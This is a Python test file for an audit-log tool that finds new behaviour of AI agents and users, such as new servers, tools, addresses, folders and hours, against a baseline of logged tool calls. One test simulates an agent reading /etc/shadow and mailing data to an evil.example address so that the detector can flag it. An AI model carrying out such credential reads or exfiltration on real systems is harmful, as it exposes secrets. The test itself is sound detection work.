"""`diff` and `first-seen`: what is new, compared with what Python finds new in the same store's export."""

import datetime
import gzip
import json
import re
from collections import defaultdict

import ledgerlib
import pytest

NS = 10**9
DAY = 86400 * NS
START = 1_795_168_800 * NS  # 2026-11-20T10:00:00Z
DEMO = ledgerlib.ROOT / "config" / "demo" / "demo.ndjson.gz"
ADDRESS = re.compile(r"[\w.+-]+@[\w-]+\.[\w.]+")


@pytest.fixture(scope="module")
def demo(tmp_path_factory):
    folder = tmp_path_factory.mktemp("demo")
    daemon = ledgerlib.Daemon(folder).start()
    daemon.accept(gzip.decompress(DEMO.read_bytes()), path="/v1/import")
    daemon.stop()
    store = folder / "store"
    return store, [json.loads(line) for line in ledgerlib.export_lines(store)]


def ask(store, verb, *words, **kwargs):
    return json.loads(ledgerlib.run_cli("--data", store, verb, *words, "-n", "0", "-q", "-o", "json", **kwargs).stdout)


def at(event, path):
    for name in path.split("."):
        event = event.get(name) if isinstance(event, dict) else None
    return event


def iso(ns):
    return f"{datetime.datetime.fromtimestamp(ns // NS, datetime.UTC):%Y-%m-%dT%H:%M:%S}.{ns % NS:09d}Z"


def time_of(event):
    return event.get("time", event["recv_time"])


def strings(value):
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict | list):
        for inner in value.values() if isinstance(value, dict) else value:
            yield from strings(inner)


def habits(event):
    """What an event does, in Python's own way; of what stands in parameters only what is plain to see."""
    server = at(event, "server.name")
    start = f"{server} · " if server else ""
    if server:
        yield "server", server
    if event["kind"] == "tool_call":
        name = at(event, "target.name")
        yield "method", event["action"]
        if event["action"] == "tools/call":
            yield "effect", at(event, "marks.effect") or event.get("effect")
            yield "tool", start + name
            if isinstance(event.get("request"), dict):
                yield "arguments", f"{start}{name}({', '.join(sorted(set(event['request']) - {'_meta'}))})"
        elif name:
            yield "resource", start + name
        for text in strings(event.get("request")):
            for address in ADDRESS.findall(text):
                yield "address", address
            if re.fullmatch(r"/[\w./-]*\w", text):
                yield "folder", "/".join(text.split("/")[:-1][:5]) + "/"
    verdict = event.get("verdict")
    if verdict not in (None, "ok", "pending", "unknown"):
        kind = at(event, "error.type")
        yield "failure", start + verdict + (f": {kind}" if kind and kind != verdict else "")
    if event["kind"] == "auth":
        yield "auth", " ".join(event[name] for name in ("step", "method", "result") if event.get(name))
    for scope in (at(event, "oauth.scopes") or []) + (at(event, "scopes.requested") or []):
        yield "scope", scope
    for habit, path in (("user", "user.id"), ("client", "client.name"), ("agent", "agent.name"),
                        ("model", "agent.model")):
        if at(event, path):
            yield habit, at(event, path)
    if at(event, "net.peer"):
        yield "peer", at(event, "net.peer").rpartition(":")[0]
    yield "hour", f"{time_of(event) // NS // 3600 % 24:02d}:00"


def new_habits(events, since, until, baseline):
    known, found = set(), defaultdict(set)
    for event in events:
        if baseline <= time_of(event) < since:
            known |= set(habits(event))
    for event in events:
        if since <= time_of(event) < until:
            for habit in set(habits(event)) - known:
                found[habit].add(event["seq"])
    return {habit: len(seqs) for habit, seqs in found.items() if habit[1]}


ALL = {"effect", "server", "tool", "resource", "method", "failure", "auth", "scope", "user", "client", "agent", "model",
       "peer", "arguments", "hour", "address"}


def test_diff_tells_what_python_finds_new(demo):
    store, events = demo
    newest = max(time_of(event) for event in events if event["kind"] != "ledger")
    told = 0
    for path, word in (("user.id", "user"), ("agent.name", "agent"), ("server.name", "server")):
        for who in sorted({at(event, path) for event in events if at(event, path)}):
            own = [event for event in events if at(event, path) == who]
            for days, baseline in ((1, 30), (3, 2), (6, 1)):
                since = newest - days * DAY
                answer = ask(store, "diff", f'{word}:"{who}"', "--since", iso(since), "--baseline", f"{baseline}d",
                             status=None)
                found = {(item["new"], item["value"]): item["events"] for item in answer["items"]}
                expected = new_habits(own, since, newest + 1, since - baseline * DAY)
                assert {habit: count for habit, count in found.items() if habit[0] in ALL} == {
                    habit: count for habit, count in expected.items() if habit[0] in ALL}, (who, days)
                folders = {habit for habit in expected if habit[0] == "folder"}
                assert folders <= found.keys(), (who, days)
                told += len(found)
                for item in answer["items"]:
                    first = next(event for event in own if event["seq"] == item["seq"])
                    assert first["id"] == item["id"]
    assert told > 100


def test_diff_ends_with_the_newest_event_of_recorded_data(demo):
    store, events = demo
    own = [event for event in events if at(event, "user.id") == "chloe@example.com"]
    newest = max(map(time_of, own))
    answer = ask(store, "diff", "user:chloe@example.com")
    assert newest % 1000 != 999  # so that times are written with nine digits
    assert answer["window"] == {"since": iso(newest + 1 - DAY), "until": iso(newest + 1),
                                "baseline_since": iso(newest + 1 - 31 * DAY)}
    assert answer["window_events"] == sum(newest - DAY < time_of(event) for event in own)
    assert answer["baseline_events"] == sum(time_of(event) <= newest - DAY for event in own)
    table = ledgerlib.run_cli("--data", store, "diff", "user:chloe@example.com", "-q", status=None).stdout.decode()
    assert table.startswith("Window    2026-") and "the day up to the newest" in table.splitlines()[0]
    ledgerlib.run_cli("--data", store, "diff", "user:nobody", status=1)
    ledgerlib.run_cli("--data", store, "diff", status=2)
    ledgerlib.run_cli("--data", store, "diff", "user:x", "--baseline", "soon", status=2)


def test_without_a_baseline_all_is_new_and_said_so(make_daemon):
    daemon = make_daemon()
    daemon.accept(ledgerlib.tool_call("t", user={"id": "new"}, server={"name": "s"}))
    table = daemon.cli_on_store("diff", "user:new", "-q").stdout.decode()
    assert "nothing to compare with, so all is new" in table
    assert daemon.cli("diff", "user:new", "-q", "-o", "csv").stdout == daemon.cli_on_store(
        "diff", "user:new", "-q", "-o", "csv").stdout


def test_an_exfiltration_stands_out(make_daemon):
    daemon = make_daemon()
    usual = [ledgerlib.tool_call("read_file", time=START + hour * 3600 * NS, user={"id": "bot"}, server={"name": "fs"},
                                 request={"path": f"/srv/app/{hour}.log"}) for hour in range(200)]
    day = START + 200 * 3600 * NS
    attack = [ledgerlib.tool_call("read_file", id="read", time=day, user={"id": "bot"}, server={"name": "fs"},
                                  request={"path": "/etc/shadow", "head": 10}),
              ledgerlib.tool_call("send", id="send", time=day + NS, user={"id": "bot"}, server={"name": "mail"},
                                  request={"to": "x@evil.example", "link": "https://u@evil.example:8443/a?b"},
                                  effect="create")]
    daemon.accept(usual + attack, path="/v1/import")
    found = {(item["new"], item["value"]): item["id"] for item in ask(daemon.data, "diff", "user:bot")["items"]
             if item["new"] != "effect"}
    assert found == {
        ("server", "mail"): "send", ("tool", "mail · send"): "send",
        ("address", "x@evil.example"): "send", ("host", "evil.example"): "send", ("folder", "/etc/"): "read",
        ("arguments", "fs · read_file(head, path)"): "read", ("arguments", "mail · send(link, to)"): "send"}


def test_ten_thousand_values_are_compared_and_cut_with_notice(make_daemon):
    daemon = make_daemon()
    for day in range(3):
        daemon.accept([ledgerlib.tool_call(f"t{n}", time=START + day * DAY + n, user={"id": f"u{n}"})
                       for n in range(10000 + (day == 2) * 7)], path="/v1/import")
    found = ask(daemon.data, "diff", "kind:tool_call")
    assert sorted(item["value"] for item in found["items"] if item["new"] == "tool") == [f"t{n}" for n in
                                                                                      range(10000, 10007)]
    seen = ask(daemon.data, "first-seen", "user", "user,tool", "--since", iso(START + DAY * 3 // 2))
    assert len(seen["items"]) == 14 and seen["known"] == 20000
    every = ask(daemon.data, "first-seen", "user", "user,tool")
    assert len(every["items"]) == 20000 and every["coverage"]["more"] is True


PAIRS = {"server": "server.name", "tool": "target.name", "user": "user.id", "agent": "agent.name",
         "verdict": "verdict", "session": "session_id", "net.peer": "net.peer"}


def first_seen(events, fields, since):
    found = {}
    for event in sorted(events, key=lambda e: (time_of(e), e["seq"])):
        values = tuple(at(event, PAIRS[name]) for name in fields)
        if all(values):
            first, _, count = found.get(values, ((time_of(event), event["seq"]), None, 0))
            found[values] = (first, time_of(event), count + 1)
    return {values: (seq, count) for values, ((time, seq), _, count) in found.items() if time >= since}


def test_first_seen_is_what_python_finds(demo):
    store, events = demo
    times = sorted(time_of(event) for event in events if event["kind"] != "ledger")
    checked = 0
    for fields in (("server",), ("user",), ("server", "tool"), ("user", "tool"), ("agent", "server"), ("session",),
                   ("net.peer",), ("user", "verdict", "server")):
        for since in (None, times[len(times) // 2], times[-40]):
            options = ["--since", iso(since)] if since else []
            answer = ask(store, "first-seen", ",".join(fields), *options, status=None)
            found = {tuple(item["values"]): (item["seq"], item["events"]) for item in answer["items"]}
            assert found == first_seen(events, fields, since or 0), (fields, since)
            order = [item["first"] for item in answer["items"]]
            assert len(found) == len(order)
            checked += len(found)
    assert checked > 300


def test_first_seen_counts_only_what_the_search_finds_and_the_baseline_holds(demo):
    store, events = demo
    times = sorted(time_of(event) for event in events if event["kind"] != "ledger")
    since = times[-200]
    denied = [event for event in events if event.get("verdict") == "denied"]
    found = ask(store, "first-seen", "user,server", "verdict:denied")
    assert {tuple(item["values"]): (item["seq"], item["events"]) for item in found["items"]} == first_seen(
        denied, ("user", "server"), 0)
    recent = [event for event in events if time_of(event) >= since - DAY]
    found = ask(store, "first-seen", "user,tool", "--since", iso(since), "--baseline", "1d", status=None)
    assert {tuple(item["values"]): (item["seq"], item["events"]) for item in found["items"]} == first_seen(
        recent, ("user", "tool"), since)


def test_first_seen_by_the_time_of_receipt(make_daemon):
    daemon = make_daemon()
    daemon.accept([ledgerlib.tool_call("late", time=START - 900 * DAY, user={"id": "a"}),
                   ledgerlib.tool_call("soon", time=START, user={"id": "a"})], path="/v1/import")
    by_event = ask(daemon.data, "first-seen", "tool", "--since", iso(START))
    assert [item["values"] for item in by_event["items"]] == [["soon"]]
    by_receipt = ask(daemon.data, "first-seen", "tool", "--since", "1d", "--time", "recv")
    assert sorted(item["values"] for item in by_receipt["items"]) == [["late"], ["soon"]]


def test_indicators_of_a_file_narrow_what_is_compared(demo, tmp_path):
    store, _ = demo
    (tmp_path / "iocs.txt").write_text("convert_currency\n")
    indicators = ("--match-file", tmp_path / "iocs.txt")
    for verb, *words in (("first-seen", "tool"), ("definitions",), ("diff", "kind:tool_call", "--since", "900d")):
        found = [str(item) for item in ask(store, verb, *words, *indicators)["items"]]
        every = [str(item) for item in ask(store, verb, *words)["items"]]
        assert 0 < len(found) < len(every) and any("convert_currency" in item for item in found), verb
